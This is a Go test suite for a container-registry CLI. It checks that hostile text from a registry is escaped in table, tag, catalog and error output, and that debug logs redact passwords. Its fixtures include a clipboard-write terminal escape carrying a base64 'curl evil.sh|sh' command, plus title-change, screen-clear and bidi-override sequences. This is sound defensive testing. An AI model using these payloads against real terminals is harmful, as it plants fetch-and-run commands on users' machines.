package main

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-containerregistry/pkg/authn"
	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/manifold-dev/manifold/internal/faultproxy"
	"github.com/manifold-dev/manifold/internal/testregistry"
)

// Hostile strings a registry could send: a clipboard write (OSC 52), a
// title change (OSC 0), a screen clear (CSI), BEL, a C1 CSI and a bidi
// override.
const (
	osc52   = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
	oscT    = "\x1b]0;owned\x1b\\"
	csi     = "\x1b[2J\x1b[H"
	bel     = "\a"
	c1      = "\u009b31m"
	bidi    = "\u202egnp.exe"
	hostile = osc52 + oscT + csi + bel + c1 + bidi
)

// escapeEnv seeds a real registry with an index whose annotations, entry
// annotations, platform os.version and image config labels, author and
// history carry hostile text, and puts a proxy in front that can answer tag
// and catalog lists with hostile names (distribution refuses such names,
// a hostile registry would not). It returns the proxy, host and reference.
func escapeEnv(t *testing.T) (*faultproxy.Proxy, string, string, []byte) {
	t.Helper()
	readEnv(t) // isolates docker config, cache and colour settings
	p := faultproxy.New()
	reg := testregistry.Start(t, testregistry.Options{Wrap: p.Wrap})
	ref := reg.Ref("app:v1")

	// The amd64 entry's platform carries hostile os.version and os.features.
	platform := func(arch string) *v1.Platform {
		if arch == "amd64" {
			return &v1.Platform{OS: "linux", Architecture: arch, OSVersion: "1.0" + csi, OSFeatures: []string{"f" + osc52}}
		}
		return &v1.Platform{OS: "linux", Architecture: arch}
	}
	var adds []mutate.IndexAddendum
	for _, arch := range []string{"amd64", "arm64"} {
		img, err := random.Image(128, 1)
		if err != nil {
			t.Fatal(err)
		}
		img = mutate.MediaType(img, types.OCIManifestSchema1)
		img = mutate.ConfigMediaType(img, types.OCIConfigJSON)
		cf, err := img.ConfigFile()
		if err != nil {
			t.Fatal(err)
		}
		cf = cf.DeepCopy()
		cf.OS, cf.Architecture = "linux", arch
		cf.Author = "mallory" + hostile
		cf.Config.Labels = map[string]string{"evil" + csi: hostile, "org.opencontainers.image.title": osc52}
		cf.History = []v1.History{{CreatedBy: "RUN echo " + hostile, Comment: bel + bidi}}
		if img, err = mutate.ConfigFile(img, cf); err != nil {
			t.Fatal(err)
		}
		img = mutate.Annotations(img, map[string]string{"note": hostile}).(v1.Image)
		adds = append(adds, mutate.IndexAddendum{Add: img, Descriptor: v1.Descriptor{
			Platform:    platform(arch),
			Annotations: map[string]string{"org.opencontainers.image.description": hostile},
		}})
	}
	idx := mutate.IndexMediaType(mutate.AppendManifests(empty.Index, adds...), types.OCIImageIndex)
	idx = mutate.Annotations(idx, map[string]string{
		"org.opencontainers.image.title": oscT + "title",
		"evil" + osc52:                   hostile,
	}).(v1.ImageIndex)
	r, err := name.ParseReference(ref)
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.WriteIndex(r, idx); err != nil {
		t.Fatal(err)
	}
	raw, err := idx.RawManifest()
	if err != nil {
		t.Fatal(err)
	}
	return p, reg.Host, ref, raw
}

// assertNoControl fails when out holds a byte a terminal would act on:
// C0 controls other than newline, DEL, C1 controls, bidi overrides or
// invalid UTF-8.
func assertNoControl(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("%s: output is not valid UTF-8: %q", what, out)
	}
	for i, r := range out {
		bad := (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) ||
			(r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069)
		if bad {
			t.Fatalf("%s: output holds %U at byte %d:\n%q", what, r, i, out)
		}
	}
}

func TestEscapeTableOutputs(t *testing.T) {
	_, host, ref, raw := escapeEnv(t)
	var idx struct {
		Manifests []struct {
			Digest string `json:"digest"`
		} `json:"manifests"`
	}
	if err := json.Unmarshal(raw, &idx); err != nil || len(idx.Manifests) == 0 {
		t.Fatalf("index: %v", err)
	}
	// One image by digest: with --all its config (labels, env) is printed.
	img := host + "/app@" + idx.Manifests[0].Digest
	code, out, errs := runCLI("inspect", img, "--all")
	if code != 0 {
		t.Fatalf("inspect %s: exit %d: %s", img, code, errs)
	}
	assertNoControl(t, "inspect image (stdout)", out)
	assertNoControl(t, "inspect image (stderr)", errs)
	if !strings.Contains(out, `evil\x1b[2J\x1b[H=\x1b]52;c;`) {
		t.Fatalf("inspect image: hostile label not shown escaped:\n%s", out)
	}
	for _, args := range [][]string{
		{"inspect", ref},
		{"inspect", ref, "--all"},
		{"inspect", ref, "-o", "table", "--all"},
		{"platforms", ref},
		{"resolve", ref, "--platform", "linux/arm64"},
	} {
		code, out, errs := runCLI(args...)
		what := "manifold " + strings.Join(args, " ")
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", what, code, errs)
		}
		assertNoControl(t, what+" (stdout)", out)
		assertNoControl(t, what+" (stderr)", errs)
		// The hostile text is shown, escaped, not dropped.
		if strings.Contains(strings.Join(args, " "), "inspect") && !strings.Contains(out, `\x1b]0;owned`) {
			t.Fatalf("%s: escaped title annotation not shown:\n%s", what, out)
		}
		if args[0] == "platforms" && !strings.Contains(out, `linux/amd64:1.0\x1b[2J\x1b[H`) {
			t.Fatalf("%s: hostile os.version not shown escaped:\n%s", what, out)
		}
	}
}

func TestEscapeTagAndRepoLists(t *testing.T) {
	p, host, _, _ := escapeEnv(t)
	tags := []string{"v1", "x" + osc52, "y" + csi + bel, "z" + bidi}
	body, _ := json.Marshal(map[string]any{"name": "app", "tags": tags})
	p.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Tags, Body: body, MediaType: "application/json"})
	code, out, errs := runCLI("tags", host+"/app")
	if code != 0 {
		t.Fatalf("tags: exit %d: %s", code, errs)
	}
	assertNoControl(t, "tags", out+errs)
	if !strings.Contains(out, `x\x1b]52;c;`) || !strings.Contains(out, `z\u202egnp.exe`) {
		t.Fatalf("hostile tags not shown escaped:\n%s", out)
	}

	repos, _ := json.Marshal(map[string]any{"repositories": []string{"app", "evil" + oscT, "b" + c1}})
	p.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Catalog, Body: repos, MediaType: "application/json"})
	code, out, errs = runCLI("repos", host)
	if code != 0 {
		t.Fatalf("repos: exit %d: %s", code, errs)
	}
	assertNoControl(t, "repos", out+errs)
	if !strings.Contains(out, `evil\x1b]0;owned\x1b\`) {
		t.Fatalf("hostile repository not shown escaped:\n%s", out)
	}
}

func TestEscapeErrorBodies(t *testing.T) {
	p, _, ref, _ := escapeEnv(t)
	body := []byte(`{"errors":[{"code":"DENIED","message":"denied` + jsonEscape(hostile) + `"}]}`)
	// A registry error whose message is hostile reaches stderr escaped,
	// on every command that reads a manifest.
	for _, args := range [][]string{{"inspect", ref}, {"platforms", ref}, {"resolve", ref, "--platform", "linux/arm64"}} {
		p.Set(faultproxy.Fault{Kind: faultproxy.Status, Code: http.StatusForbidden, Match: faultproxy.Manifests, Body: body})
		hits := p.Hits()
		code, out, errs := runCLI(args...)
		what := strings.Join(args, " ")
		if code == 0 {
			t.Fatalf("%s: 403 on the manifest, exit 0: %s", what, out)
		}
		if p.Hits() == hits {
			t.Fatalf("%s: the fault never fired", what)
		}
		assertNoControl(t, what+" 403 (stderr)", errs)
		assertNoControl(t, what+" 403 (stdout)", out)
		if !strings.Contains(errs, `denied\x1b]52;c;`) {
			t.Fatalf("%s: the registry's message is not shown escaped:\n%s", what, errs)
		}
	}
	// A 200 whose body is not a manifest at all: an error, escaped too.
	p.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Manifests, MediaType: "application/vnd.oci.image.index.v1+json", Body: body})
	code, out, errs := runCLI("inspect", ref)
	if code == 0 {
		t.Fatalf("inspect of an error body served as an index: exit 0: %s", out)
	}
	assertNoControl(t, "inspect garbage (stderr)", errs)
	assertNoControl(t, "inspect garbage (stdout)", out)
}

func jsonEscape(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

func TestEscapeJSONAndRawStayExact(t *testing.T) {
	_, _, ref, raw := escapeEnv(t)
	_, out, errs := runCLI("inspect", ref, "-o", "raw")
	if !bytes.Equal([]byte(out), raw) {
		t.Fatalf("-o raw is not byte-exact (stderr %s)", errs)
	}
	code, out, errs := runCLI("inspect", ref, "-o", "json", "--all")
	if code != 0 {
		t.Fatalf("-o json: exit %d: %s", code, errs)
	}
	// JSON escapes control bytes itself: none are raw in the output.
	assertNoControl(t, "-o json", out)
	var v struct {
		Annotations map[string]string `json:"annotations"`
		Manifests   []struct {
			Annotations map[string]string `json:"annotations"`
		} `json:"manifests"`
	}
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		t.Fatalf("-o json: %v\n%s", err, out)
	}
	if got := v.Annotations["evil"+osc52]; got != hostile {
		t.Fatalf("-o json lost the annotation: %q", got)
	}
	if got := v.Annotations["org.opencontainers.image.title"]; got != oscT+"title" {
		t.Fatalf("-o json title = %q", got)
	}
	if len(v.Manifests) != 2 || v.Manifests[1].Annotations["org.opencontainers.image.description"] != hostile {
		t.Fatalf("-o json entry annotations = %+v", v.Manifests)
	}
}

// TestDebugNeverPrintsSecrets runs --debug against a registry that needs
// basic auth, with the credentials in the docker config: the log shows the
// requests, with Authorization redacted, and no form of the password.
func TestDebugNeverPrintsSecrets(t *testing.T) {
	readEnv(t)
	const user, pass = "alice", "debug-s3cret-PW"
	reg := testregistry.Start(t, testregistry.Options{Htpasswd: map[string]string{user: pass}})
	t.Setenv("DOCKER_CONFIG", reg.DockerConfig(t, user, pass))
	img, err := random.Image(64, 1)
	if err != nil {
		t.Fatal(err)
	}
	r, _ := name.ParseReference(reg.Ref("app:v1"))
	if err := remote.Write(r, img, remote.WithAuth(&authn.Basic{Username: user, Password: pass})); err != nil {
		t.Fatal(err)
	}
	code, out, errs := runCLI("--debug", "inspect", reg.Ref("app:v1"))
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	basic := base64.StdEncoding.EncodeToString([]byte(user + ":" + pass))
	for _, leak := range []string{pass, basic} {
		if strings.Contains(out+errs, leak) {
			t.Fatalf("--debug output leaks %q:\n%s", leak, errs)
		}
	}
	if !strings.Contains(errs, "Authorization: [redacted]") || !strings.Contains(errs, "→ GET http://"+reg.Host+"/v2/") {
		t.Fatalf("--debug log lacks the redacted request:\n%s", errs)
	}
	assertNoControl(t, "--debug stderr", errs)
}
